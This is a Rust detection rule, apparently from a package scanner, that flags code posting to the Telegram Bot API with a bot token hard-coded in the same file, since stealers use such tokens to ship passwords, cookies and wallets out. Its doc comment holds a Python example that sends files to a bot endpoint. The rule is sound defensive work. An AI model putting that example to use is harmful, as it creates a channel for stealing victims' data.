use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::FileAnalysis;
use ossprey_static::facts::text::ServiceClass;

use super::util::{context_severity, has_network_call, service_mentions};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds the Telegram Bot API (`api.telegram.org/bot…`) used by code with a bot token
/// (`123456789:AA…`) written into the same file.
///
/// ## Why is this bad?
/// A bot token baked into a package lets the package send messages and files to the
/// author's chat: stealers use it to ship passwords, cookies, wallets and
/// screenshots out of the victim's machine. Bot client libraries build the URL from
/// a token their user supplies; they never ship one.
///
/// ## Example
/// ```python
/// TOKEN = "6123456789:AAHk-EXAMPLE-EXAMPLE-EXAMPLE-EXAMPLE"
/// requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", files=files)
/// ```
#[derive(Debug)]
pub struct BotApi;

/// Whether `s` holds a Telegram bot token: `<digits>:<35 url-safe chars>`.
fn holds_token(s: &str) -> bool {
    let b = s.as_bytes();
    b.iter().enumerate().any(|(i, &c)| {
        if c != b':' {
            return false;
        }
        let digits = b[..i]
            .iter()
            .rev()
            .take_while(|d| d.is_ascii_digit())
            .count();
        let tail = b[i + 1..]
            .iter()
            .take_while(|d| d.is_ascii_alphanumeric() || **d == b'-' || **d == b'_')
            .count();
        (8..=12).contains(&digits) && (30..=40).contains(&tail)
    })
}

fn file_has_token(file: &FileAnalysis, text: &str) -> bool {
    holds_token(text)
        || file
            .source
            .as_ref()
            .is_some_and(|s| s.strings.iter().any(|l| holds_token(&l.value)))
}

impl Rule for BotApi {
    fn id(&self) -> &'static str {
        "NET-BOT-API"
    }
    fn category(&self) -> Category {
        Category::EXFILTRATION
    }
    fn summary(&self) -> &'static str {
        "Telegram bot API used by code with a bot token baked in"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for m in service_mentions(input, &[ServiceClass::BotApi]) {
            if !m.rest.to_ascii_lowercase().starts_with("/bot") {
                continue;
            }
            // Bot client libraries build the URL from their user's token; only a token
            // baked into the package is someone's exfiltration channel.
            if !file_has_token(m.file, &m.text) {
                continue;
            }
            let base = if m.file.source.as_ref().is_none_or(has_network_call) {
                Severity::High
            } else {
                Severity::Medium
            };
            let what = "with a bot token baked into the package";
            out.push(finding(
                self.id(),
                context_severity(base, m.file),
                self.category(),
                format!("code talks to the Telegram bot API {what}"),
                Some(&m.file.path),
                Some(m.line),
                Some(&m.text),
            ));
        }
    }
}
